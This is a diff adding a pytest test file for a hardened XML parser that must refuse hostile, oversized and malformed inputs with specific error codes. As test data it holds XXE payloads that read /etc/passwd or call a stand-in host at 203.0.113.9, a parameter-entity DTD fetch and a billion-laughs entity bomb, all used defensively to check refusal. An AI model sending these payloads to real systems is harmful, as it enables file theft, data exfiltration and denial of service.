@@ -1,0 +1,144 @@
+"""The hardened XML entry point: every hostile or broken input gets its coded error."""
+
+from __future__ import annotations
+
+import mmap
+import tracemalloc
+from pathlib import Path
+
+import pytest
+
+from bureau_adapters.exceptions import BureauError, MalformedReportError, UnsafeXMLError
+from bureau_adapters.xml import DEFAULT_MAX_DEPTH, parse_xml
+
+XXE_FILE = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<r>&xxe;</r>"""
+XXE_NETWORK = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://203.0.113.9/steal">]><r>&xxe;</r>"""
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.9/evil.dtd"> %p;]><r/>"""
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<lolz>&lol9;</lolz>"""
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE Document SYSTEM "http://203.0.113.9/pboc.dtd"><Document/>"""
+PUBLIC_DTD = b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x.dtd"><html/>'
+INTERNAL_DTD = b"<!DOCTYPE Document [<!ELEMENT Document ANY>]><Document/>"
+
+
+@pytest.mark.parametrize(
+    ("payload", "code"),
+    [
+        (XXE_FILE, "XML_EXTERNAL"),
+        (XXE_NETWORK, "XML_EXTERNAL"),
+        (PARAMETER_ENTITY, "XML_EXTERNAL"),
+        (BILLION_LAUGHS, "XML_ENTITY"),
+        (EXTERNAL_DTD, "XML_EXTERNAL"),
+        (PUBLIC_DTD, "XML_EXTERNAL"),
+        (INTERNAL_DTD, "XML_DTD"),
+        ('<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"), "XML_ENCODING"),
+        (b"<a>" * 40 + b"</a>" * 40, "XML_TOO_DEEP"),
+        (b"<a>" * 100_000 + b"</a>" * 100_000, "XML_TOO_DEEP"),
+    ],
+    ids=[
+        "xxe-file",
+        "xxe-network",
+        "parameter-entity",
+        "billion-laughs",
+        "external-dtd",
+        "public-dtd",
+        "internal-dtd",
+        "utf16",
+        "deep-40",
+        "deep-100k",
+    ],
+)
+def test_unsafe_inputs_are_refused_with_their_code(payload: bytes, code: str) -> None:
+    with pytest.raises(UnsafeXMLError, match=r".") as info:
+        parse_xml(payload)
+    assert info.value.code == code
+    assert isinstance(info.value, BureauError)
+
+
+@pytest.mark.parametrize(
+    ("payload", "code"),
+    [
+        (b"", "XML_EMPTY"),
+        (b"  \n\t", "XML_EMPTY"),
+        (b"<a><b></a>", "XML_SYNTAX"),
+        (b"<a>", "XML_SYNTAX"),
+        (b"not xml at all", "XML_SYNTAX"),
+        ('<?xml version="1.0" encoding="UTF-8"?><a>张三</a>'.encode("gbk"), "XML_ENCODING"),
+    ],
+    ids=["empty", "blank", "mismatched", "truncated", "text", "gbk-declared-utf8"],
+)
+def test_malformed_inputs_get_their_code(payload: bytes, code: str) -> None:
+    with pytest.raises(MalformedReportError, match=r".") as info:
+        parse_xml(payload)
+    assert info.value.code == code
+
+
+def test_str_is_refused() -> None:
+    with pytest.raises(MalformedReportError, match="must be bytes, got str") as info:
+        parse_xml("<a/>")  # type: ignore[arg-type]
+    assert info.value.code == "XML_NOT_BYTES"
+
+
+def test_entities_are_never_expanded_nor_files_read() -> None:
+    # The refusal happens on the raw bytes: nothing of /etc/passwd can appear anywhere.
+    with pytest.raises(UnsafeXMLError, match="external identifiers") as info:
+        parse_xml(XXE_FILE)
+    assert "root:" not in str(info.value)
+
+
+def test_depth_limit_is_a_parameter() -> None:
+    nested = b"<a>" * 10 + b"</a>" * 10
+    assert parse_xml(nested, max_depth=10).tag == "a"
+    with pytest.raises(UnsafeXMLError, match="deeper than the limit of 9") as info:
+        parse_xml(nested, max_depth=9)
+    assert info.value.fields["limit"] == 9
+    assert DEFAULT_MAX_DEPTH >= 16
+
+
+def test_size_limit_is_checked_before_parsing() -> None:
+    with pytest.raises(UnsafeXMLError, match="exceeds the limit of 10 bytes") as info:
+        parse_xml(b"<a>0123456789</a>", max_bytes=10)
+    assert info.value.code == "XML_TOO_LARGE"
+    assert info.value.fields == {"size": 17, "limit": 10}
+
+
+def test_200_mb_input_is_refused_without_reading_it(tmp_path: Path) -> None:
+    """A 200 MB (sparse, mapped) file is refused by its length: no copy, no parse."""
+    path = tmp_path / "huge.xml"
+    with path.open("wb") as handle:
+        handle.write(b"<a>")
+        handle.truncate(200 * 1024 * 1024)
+    with path.open("rb") as handle, mmap.mmap(handle.fileno(), 0, access=mmap.ACCESS_READ) as m:
+        view = memoryview(m)
+        tracemalloc.start()
+        try:
+            with pytest.raises(UnsafeXMLError, match="209,715,200 bytes exceeds") as info:
+                parse_xml(view)
+            _, peak = tracemalloc.get_traced_memory()
+        finally:
+            tracemalloc.stop()
+            view.release()
+    assert info.value.code == "XML_TOO_LARGE"
+    assert peak < 1_000_000
+
+
+def test_comments_and_processing_instructions_are_dropped() -> None:
+    root = parse_xml(b"<?xml version='1.0'?><a><!-- c --><?pi x?><b>1</b></a>")
+    assert [child.tag for child in root] == ["b"]
+
+
+def test_encoding_override_reads_gbk_despite_the_declaration() -> None:
+    data = '<?xml version="1.0" encoding="UTF-8"?><a>张三</a>'.encode("gbk")
+    assert parse_xml(data, encoding="gb18030").text == "张三"
